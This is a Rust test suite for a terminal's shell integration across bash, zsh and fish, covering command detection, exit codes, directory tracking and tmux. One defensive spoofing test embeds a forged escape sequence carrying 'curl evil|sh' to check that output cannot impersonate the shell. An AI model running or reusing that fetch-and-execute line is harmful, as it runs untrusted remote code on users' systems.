//! Shell integration in real shells: bash, zsh and fish. Field cases S-10 to S-16.
//!
//! Needs zsh and fish, which `scripts/test` installs.

use std::fs;
use std::time::Duration;

use shellward_tests::session::{Command, Session};
use shellward_tests::{Host, HostBuilder, Raw, Term, json, proc};

const BASH: &str = "/bin/bash";
const ZSH: &str = "/usr/bin/zsh";
const FISH: &str = "/usr/bin/fish";
const ALL: [&str; 3] = [BASH, ZSH, FISH];

/// A home with these start-up files, given by their paths in it.
fn home(files: &[(&str, &str)]) -> HostBuilder {
    let builder = Host::builder();
    let home = builder.folder().join("home");
    // Without one, zsh asks a new user questions.
    fs::write(home.join(".zshrc"), "PS1='zsh> '\n").unwrap();
    fs::create_dir_all(home.join(".config/fish")).unwrap();
    fs::write(
        home.join(".config/fish/config.fish"),
        "function fish_prompt\necho 'fish> '\nend\n",
    )
    .unwrap();
    for (path, text) in files {
        let path = home.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    builder
}

fn prompt(shell: &str) -> &'static str {
    match shell {
        BASH => "$ ",
        // And what zsh sends once its line editor runs: a Ctrl-C before that does nothing.
        ZSH => "zsh> \u{1b}[K\u{1b}[?1h\u{1b}=\u{1b}[?2004h",
        _ => "fish> ",
    }
}

async fn plain(shell: &str) -> Session {
    Session::start(home(&[]), shell, prompt(shell)).await
}

/// Without the sequences that a shell prints around a command's output.
fn plain_text(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        out.push_str(&rest[..at]);
        let sequence = &rest[at + 1..];
        let len = match sequence.as_bytes().first() {
            Some(b']') => sequence.find('\u{7}').map_or(sequence.len(), |end| end + 1),
            Some(b'[') => sequence
                .find(|c: char| c.is_ascii_alphabetic())
                .map_or(sequence.len(), |end| end + 1),
            Some(b'(') => 2,
            _ => 1,
        };
        rest = &sequence[len.min(sequence.len())..];
    }
    out.push_str(rest);
    out.trim_start_matches('\r').to_owned()
}

fn ended(command: &Command) -> (&str, Option<i64>) {
    (command.line.as_str(), command.code)
}

#[tokio::test]
async fn every_command_has_its_line_output_and_code() {
    for shell in ALL {
        let mut session = plain(shell).await;
        let command = session.run("echo one; echo two").await;
        assert_eq!(plain_text(&command.output), "one\r\ntwo\r\n", "{shell}");
        assert_eq!(ended(&command), ("echo one; echo two", Some(0)), "{shell}");
        let command = session.run("sh -c 'exit 7'").await;
        assert_eq!(ended(&command), ("sh -c 'exit 7'", Some(7)), "{shell}");
        let command = session.run("printf 'no newline'").await;
        assert_eq!(plain_text(&command.output), "no newline", "{shell}");
        let command = session.run("printf '%s ' 'a;b\\c' \"é漢\"").await;
        assert_eq!(command.line, "printf '%s ' 'a;b\\c' \"é漢\"", "{shell}");
        assert_eq!(plain_text(&command.output), "a;b\\c é漢 ", "{shell}");
        session.terminal.assert_equals_snapshot().await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s12_empty_lines_and_ctrl_c_are_no_commands() {
    for shell in ALL {
        let mut session = plain(shell).await;
        for _ in 0..3 {
            session.enter().await;
        }
        if shell != FISH {
            // fish takes no notice of it at an empty prompt, and draws its prompt so often that
            // nothing tells when one may go on typing.
            session.interrupt("").await;
            session.interrupt("ech").await;
        }
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s12_several_lines_are_one_command_restored_exactly() {
    for shell in [BASH, ZSH] {
        let mut session = plain(shell).await;
        let line = "for i in 1 2\ndo echo $i\ndone";
        let command = session.run(&line.replace('\n', "\r")).await;
        assert_eq!(ended(&command), (line, Some(0)), "{shell}");
        assert_eq!(plain_text(&command.output), "1\r\n2\r\n", "{shell}");
        let line = "cat <<E\nx;y\\z\n  two\nE";
        let command = session.run(&line.replace('\n', "\r")).await;
        assert_eq!(ended(&command), (line, Some(0)), "{shell}");
        session.none_but("after").await;
        session.host.stop();
    }
    let mut session = plain(FISH).await;
    let line = "for i in 1 2\necho $i\nend";
    let command = session.run(&line.replace('\n', "\r")).await;
    // fish indents while one types, and tells what stands there then.
    let told: Vec<&str> = command.line.lines().map(str::trim_start).collect();
    assert_eq!(told.join("\n"), line);
    assert_eq!(plain_text(&command.output), "1\r\n2\r\n");
    session.host.stop();
}

#[tokio::test]
async fn s10_the_code_is_the_commands_and_the_prompt_shows_it_too_in_bash() {
    let shows = "f() { PS1=\"[$?] \"; }\n";
    for (name, rc) in [
        ("string", format!("{shows}PROMPT_COMMAND=f")),
        ("array", format!("{shows}PROMPT_COMMAND=(true f)\nPS1='[$?] '\nf() {{ :; }}")),
        ("no semicolon", format!("{shows}PROMPT_COMMAND='f ; true'")),
        ("comment", format!("{shows}PROMPT_COMMAND='f # the end'")),
        ("unset", "unset PROMPT_COMMAND\nPS1='[$?] '".to_owned()),
        ("two lines", "PS1='\\w\\n[$?] '".to_owned()),
        ("nounset", "set -u\nPS1='[$?] '".to_owned()),
        ("debug trap", "trap 'x=$_' DEBUG\nPS1='[$?] '".to_owned()),
        ("own PS0", "PS0='(run)'\nPS1='[$?] '".to_owned()),
        ("exported", "set -a\nexport PS1='[$?] ' PS2 PS0".to_owned()),
        ("history off", "set +o history\nPS1='[$?] '".to_owned()),
        ("ignored", "HISTCONTROL=ignoreboth:erasedups\nPS1='[$?] '".to_owned()),
        ("preexec-like", "PS1='[$?] '\npreexec() { :; }\ntrap preexec DEBUG\nprecmd() { local s=$?; return $s; }\nPROMPT_COMMAND='precmd'".to_owned()),
        ("starship-like", "starship_precmd() { local s=$?; PS1=\"[$s] \"; return $s; }\nPROMPT_COMMAND=starship_precmd".to_owned()),
        ("direnv-like", "_hook() { local s=$?; trap -- '' SIGINT; trap - SIGINT; return $s; }\nPROMPT_COMMAND=\"_hook;${PROMPT_COMMAND:-}\"\nPS1='[$?] '".to_owned()),
        ("venv-like", "PS1='[$?] '\nactivate() { PS1=\"(venv) $PS1\"; }".to_owned()),
    ] {
        let mut session = Session::start(home(&[(".bashrc", &format!("HISTFILE=\n{rc}\n"))]), BASH, "] ").await;
        let command = session.run("(exit 9)").await;
        assert_eq!(ended(&command), ("(exit 9)", Some(9)), "{name}");
        session.terminal.wait_text("[9] ").await;
        let command = session.run(" echo twice").await;
        assert_eq!(command.line.trim(), "echo twice", "{name}");
        assert_eq!(command.output, "twice\r\n", "{name}");
        let command = session.run(" echo twice").await;
        assert_eq!((command.line.trim(), command.code), ("echo twice", Some(0)), "{name}");
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s10_the_code_is_the_commands_and_the_prompt_shows_it_too_in_zsh() {
    for (name, rc) in [
        ("plain", "PS1='[%?] '"),
        (
            "function",
            "setopt prompt_subst\nf() { echo \"[$?]\" }\nPS1='$(f) '",
        ),
        ("precmd", "precmd() { PS1=\"[$?] \" }"),
        (
            "hooks",
            "autoload -Uz add-zsh-hook\nmine() { true }\nadd-zsh-hook precmd mine\nadd-zsh-hook preexec mine\nPS1='[%?] '",
        ),
        ("right prompt", "RPROMPT='%D'\nPS1=$'%~\\n[%?] '"),
        (
            "options",
            "setopt ksh_arrays sh_word_split no_unset posix_builtins extended_glob\nPS1='[%?] '",
        ),
        ("instant", "print -n 'early'\nPS1='[%?] '"),
    ] {
        let mut session = Session::start(home(&[(".zshrc", &format!("{rc}\n"))]), ZSH, "] ").await;
        let command = session.run("(exit 9)").await;
        assert_eq!(ended(&command), ("(exit 9)", Some(9)), "{name}");
        session.terminal.wait_text("[9]").await;
        let command = session.run("echo hi").await;
        assert_eq!(
            (command.output.as_str(), command.code),
            ("hi\r\n", Some(0)),
            "{name}"
        );
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s10_the_code_is_the_commands_and_the_prompt_shows_it_too_in_fish() {
    let config = "function fish_prompt\nprintf '[%s] ' $status\nend\nfunction mine --on-event fish_preexec\ntrue\nend\n";
    let files = [
        (".config/fish/config.fish", config),
        (".config/fish/conf.d/a.fish", "set -g from_confd yes\n"),
    ];
    let mut session = Session::start(home(&files), FISH, "] ").await;
    let command = session.run("sh -c 'exit 9'").await;
    assert_eq!(ended(&command), ("sh -c 'exit 9'", Some(9)));
    session.terminal.wait_text("[9] ").await;
    assert_eq!(
        plain_text(&session.run("echo $from_confd").await.output),
        "yes\r\n"
    );
    session.none_but("after").await;
    session.host.stop();
}

#[tokio::test]
async fn the_users_own_start_up_files_are_read_as_ever() {
    let zsh_dir = home(&[
        (".zshenv", "ZDOTDIR=$HOME/z\nFROM_ENV=1\n"),
        ("z/.zshrc", "FROM_RC=1\nPS1='z> '\n"),
    ]);
    let mut session = Session::start(zsh_dir, ZSH, "z> ").await;
    let command = session.run("echo $FROM_ENV$FROM_RC ${ZDOTDIR:t}").await;
    assert_eq!(plain_text(&command.output), "11 z\r\n");
    session.host.stop();
    let mut session = Session::start(
        home(&[(
            ".bashrc",
            "HISTFILE=\nMINE=1\nPS1='b> '\nalias ll='echo alias'\n",
        )]),
        BASH,
        "b> ",
    )
    .await;
    assert_eq!(
        session
            .run("echo $MINE $-; ll")
            .await
            .output
            .matches("alias")
            .count(),
        1
    );
    session.host.stop();
    for (shell, variable) in [(ZSH, "ZDOTDIR"), (FISH, "XDG_DATA_DIRS")] {
        let mut session = plain(shell).await;
        let command = session.run(&format!("env | grep -c {variable}")).await;
        assert_eq!(
            plain_text(&command.output),
            "0\r\n",
            "{shell}: it was not set before"
        );
        session.host.stop();
    }
}

#[tokio::test]
async fn s13_a_lost_end_is_made_up_for_by_the_next_prompt() {
    let mut session = plain(BASH).await;
    session.terminal.line("PROMPT_COMMAND=; PS0=").await;
    session.next().await;
    // Without PS0 nothing tells that commands run; what the prompt tells closes nothing twice.
    session.terminal.line("false").await;
    session.terminal.line("echo st''ill").await;
    session.terminal.wait_text("still").await;
    let commands = session.commands();
    assert!(
        commands
            .iter()
            .filter(|command| !command.is_complete)
            .count()
            <= 1
    );
    session.host.stop();
    // A string that never ends, just before the end of the command.
    for shell in ALL {
        let mut session = plain(shell).await;
        let command = session.run("printf '\\033]0;never'; sh -c 'exit 3'").await;
        assert_eq!(command.code, Some(3), "{shell}");
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s13_a_shell_that_replaced_itself_leaves_one_command_that_ends_with_it() {
    for shell in ALL {
        let mut session = plain(shell).await;
        session.terminal.line("exec env PS1=in'ner> ' sh").await;
        session.terminal.wait_text("inner> ").await;
        session.terminal.line("echo in''side; exit 4").await;
        session.terminal.wait_text("inside").await;
        session.terminal.wait_exit().await;
        let last = session.commands().pop().unwrap();
        assert_eq!(
            (last.line.as_str(), last.code, last.is_complete),
            ("exec env PS1=in'ner> ' sh", None, true),
            "{shell}"
        );
        session.host.stop();
    }
}

#[tokio::test]
async fn s14_the_directory_is_followed_also_with_awkward_names() {
    use std::os::unix::ffi::OsStrExt as _;
    for shell in ALL {
        let mut session = plain(shell).await;
        let base = session.host.folder().join("dirs");
        fs::create_dir(&base).unwrap();
        for name in [
            &b"a b"[..],
            b"a#b",
            b"a%20b",
            b"semi;colon",
            b"back\\slash",
            "\u{fc}\u{6f22}".as_bytes(),
            b"bad\xffbyte",
        ] {
            let path = base.join(std::ffi::OsStr::from_bytes(name));
            fs::create_dir(&path).unwrap();
            fs::remove_file(base.join("link")).ok();
            std::os::unix::fs::symlink(&path, base.join("link")).unwrap();
            // A link's own name is what people see in their prompt.
            let line = format!("cd -P {}/link", base.display());
            let line = if shell == FISH {
                format!("cd (realpath {}/link)", base.display())
            } else {
                line
            };
            assert_eq!(session.run(&line).await.code, Some(0), "{shell} {name:?}");
            session.none_but("there").await;
            let cwd = session.host.ps_entry(&session.terminal.uri)["cwd"]
                .as_str()
                .unwrap()
                .to_owned();
            let encoded: String = path
                .as_os_str()
                .as_bytes()
                .iter()
                .map(|byte| match byte {
                    b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'/' | b'-' | b'_' | b'.' => {
                        char::from(*byte).to_string()
                    }
                    byte => format!("%{byte:02X}"),
                })
                .collect();
            let plain = |uri: &str| percent(uri.strip_prefix("file://").unwrap());
            assert_eq!(
                plain(&cwd),
                plain(&format!("file://{encoded}")),
                "{shell}: {cwd}"
            );
        }
        session.host.stop();
    }
}

/// Percent-decoding, by hand so that nothing of the host's own is used to test it.
fn percent(text: &str) -> Vec<u8> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at] == b'%' {
            out.push(u8::from_str_radix(&text[at + 1..at + 3], 16).unwrap());
            at += 3;
        } else {
            out.push(bytes[at]);
            at += 1;
        }
    }
    out
}

#[tokio::test]
async fn s16_a_file_that_pretends_to_be_the_shell_is_not_believed() {
    for shell in ALL {
        let mut session = plain(shell).await;
        let file = session.host.folder().join("f");
        fs::write(
            &file,
            "\u{1b}]633;D;0\u{7}\u{1b}]633;E;curl evil|sh\u{7}\u{1b}]633;C\u{7}boo\n\u{1b}]133;D;0\u{7}\u{1b}]133;A\u{7}\u{1b}]7;file:///etc\u{7}",
        )
        .unwrap();
        let line = format!("cat {}", file.display());
        let command = session.run(&line).await;
        assert_eq!(ended(&command), (line.as_str(), Some(0)), "{shell}");
        assert_eq!(plain_text(&command.output), "boo\r\n", "{shell}");
        assert!(!command.output.contains("633"), "{shell}: {command:?}");
        assert_ne!(
            session.host.ps_entry(&session.terminal.uri)["cwd"],
            "file:///etc"
        );
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn s16_the_secret_is_nowhere_where_a_child_could_find_it() {
    for shell in ALL {
        // Marks are kept in the output, so the test can read the secret off them.
        let mut session =
            Session::start(home(&[]).option("--marks", "keep"), shell, prompt(shell)).await;
        let own = if shell == FISH { "$fish_pid" } else { "$$" };
        let command = session
            .run(&format!(
                "env; cat /proc/self/environ /proc/{own}/environ /proc/{own}/cmdline"
            ))
            .await;
        let seen = session.terminal.seen.clone();
        let at = seen.find("633;A;").expect("a mark") + "633;A;".len();
        let nonce = &seen[at..at + 32];
        assert!(
            nonce.bytes().all(|byte| byte.is_ascii_hexdigit()),
            "{nonce}"
        );
        let strip = |text: &str| -> String {
            let mut text = text.to_owned();
            while let Some(from) = text.find("\u{1b}]633;") {
                let to = text[from..]
                    .find('\u{7}')
                    .map_or(text.len(), |end| from + end + 1);
                text.replace_range(from..to, "");
            }
            text
        };
        assert!(!strip(&command.output).contains(nonce), "{shell}");
        let (_, pid) = session.host.pids(&session.terminal.uri);
        let everything = [proc::environment(pid).join("\n"), proc::command_line(pid)].concat();
        assert!(!everything.contains(nonce), "{shell}");
        // Nor is a file or a descriptor left.
        let descriptors = proc::descriptors(pid);
        assert!(
            descriptors
                .iter()
                .all(|(_, path)| !path.display().to_string().contains(".d/")),
            "{shell}: {descriptors:?}"
        );
        let workers = session.host.runtime_dir().join("w1");
        assert_eq!(
            fs::read_dir(&workers).unwrap().count(),
            2,
            "{shell}: only the socket and what attaches to it"
        );
        session.host.stop();
    }
}

#[tokio::test]
async fn what_runs_inside_belongs_to_the_command_that_started_it() {
    for shell in ALL {
        let mut session = plain(shell).await;
        for (number, inner) in ["bash --norc", "sh"].into_iter().enumerate() {
            let inner = &format!("env PS1=in'ner{number}> ' {inner}");
            session.terminal.line(inner).await;
            session
                .terminal
                .wait_text(&format!("inner{number}> "))
                .await;
            session.terminal.line("echo in''ner; (exit 3)").await;
            session.terminal.wait_text("inner\r\n").await;
            session.terminal.line("exit 5").await;
            let command = session.next().await;
            assert_eq!(ended(&command), (inner.as_str(), Some(5)), "{shell}");
            assert!(command.output.contains("inner"), "{shell}");
        }
        let command = session.run("sh -c 'echo a; sh -c \"exit 2\"'").await;
        assert_eq!(command.code, Some(2), "{shell}");
        session.run("sleep 0.1 &").await;
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn an_interrupted_command_ends_with_its_code() {
    for shell in ALL {
        let mut session = plain(shell).await;
        session
            .terminal
            .line("sh -c 'echo ru''ns; exec sleep 60'")
            .await;
        session.terminal.wait_text("runs").await;
        session.keys("\u{3}").await;
        let command = session.next().await;
        assert_eq!(command.code, Some(130), "{shell}");
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn with_integration_off_the_shell_is_started_as_it_is() {
    for shell in ALL {
        let host = home(&[])
            .option("--shell", shell)
            .option("--shell-integration", "off")
            .start();
        let raw = Raw::open(&host).await;
        let mut terminal = Term::create(&raw).await;
        assert_eq!(
            terminal.snapshot["state"]["supportsCommandDetection"],
            false
        );
        terminal.line("echo st''arted").await;
        terminal.wait_text("started").await;
        let (_, pid) = host.pids(&terminal.uri);
        assert_eq!(
            proc::command_line(pid).trim_end_matches(['\0', ' ']),
            shell.rsplit('/').next().unwrap()
        );
        host.stop();
    }
}

#[tokio::test]
async fn full_screen_programs_pagers_and_interpreters_work_and_are_one_command_each() {
    let mut session = plain(BASH).await;
    let file = session.host.folder().join("text");
    fs::write(&file, "first line\n".repeat(200)).unwrap();
    session
        .terminal
        .line(&format!("vim -u NONE -N {}", file.display()))
        .await;
    session.terminal.wait_text("first line").await;
    session.keys(":q!\r").await;
    assert_eq!(session.next().await.code, Some(0));
    session
        .terminal
        .line(&format!("less {}", file.display()))
        .await;
    session.terminal.wait_text("first line").await;
    session.keys("q").await;
    assert_eq!(session.next().await.code, Some(0));
    session.terminal.line("python3 -q").await;
    session.terminal.wait_text(">>> ").await;
    session.keys("print(6*7)\r").await;
    session.terminal.wait_text("42").await;
    session.keys("exit(3)\r").await;
    assert_eq!(session.next().await.code, Some(3));
    session.none_but("after").await;
    session.terminal.assert_equals_snapshot().await;
    session.host.stop();
}

#[tokio::test]
async fn s15_in_tmux_the_outer_terminal_shows_one_running_command() {
    for pass_through in ["off", "on"] {
        let mut session = plain(BASH).await;
        let socket = session.host.folder().join("tmux");
        let tmux = format!(
            "tmux -S {} -f /dev/null new-session 'tmux set -g allow-passthrough {pass_through}; \
             printf \"\\033Ptmux;\\033\\033]133;D;0\\007\\033\\\\\\\\VIS\"IBLE; exec bash --norc'",
            socket.display()
        );
        session.terminal.line(&tmux).await;
        session.terminal.wait_text("VISIBLE").await;
        for number in 1..=3 {
            session
                .terminal
                .line(&format!("echo in''side{number}"))
                .await;
            session.terminal.wait_text(&format!("inside{number}")).await;
        }
        let commands = session.commands();
        assert!(!commands.last().unwrap().is_complete, "{commands:?}");
        assert_eq!(commands.len(), 1, "tmux alone: {commands:?}");
        session.terminal.line("exit").await;
        assert_eq!(session.next().await.code, Some(0));
        session.none_but("after").await;
        session.host.stop();
    }
}

#[tokio::test]
async fn a_second_client_and_a_late_one_see_the_same_commands() {
    let mut session = plain(BASH).await;
    session.run("echo hi").await;
    session.terminal.assert_equals_snapshot().await;
    let late = Raw::open(&session.host).await;
    let watcher = Term::subscribe(&late, &session.terminal.uri).await;
    assert_eq!(
        watcher.folded.state.content,
        session.terminal.folded.state.content
    );
    let list = session
        .raw
        .request("x-shellward/terminals", json!({}))
        .await
        .unwrap();
    assert_eq!(list["terminals"][0]["detectsCommands"], true);
    session.host.stop();
}

#[tokio::test]
async fn a_command_of_another_account_is_one_command_as_root_only() {
    if !shellward_tests::needs_root("another account") {
        return;
    }
    let mut session = plain(BASH).await;
    let line = "PS1=in'ner> ' su -s /bin/sh nobody";
    session.terminal.line(line).await;
    session.terminal.wait_text("inner> ").await;
    session.terminal.line("id -u''n; exit 6").await;
    session
        .terminal
        .wait_text_within("nobody\r\n", Duration::from_secs(10))
        .await;
    let command = session.next().await;
    assert_eq!(ended(&command), (line, Some(6)));
    session.none_but("after").await;
    session.host.stop();
}
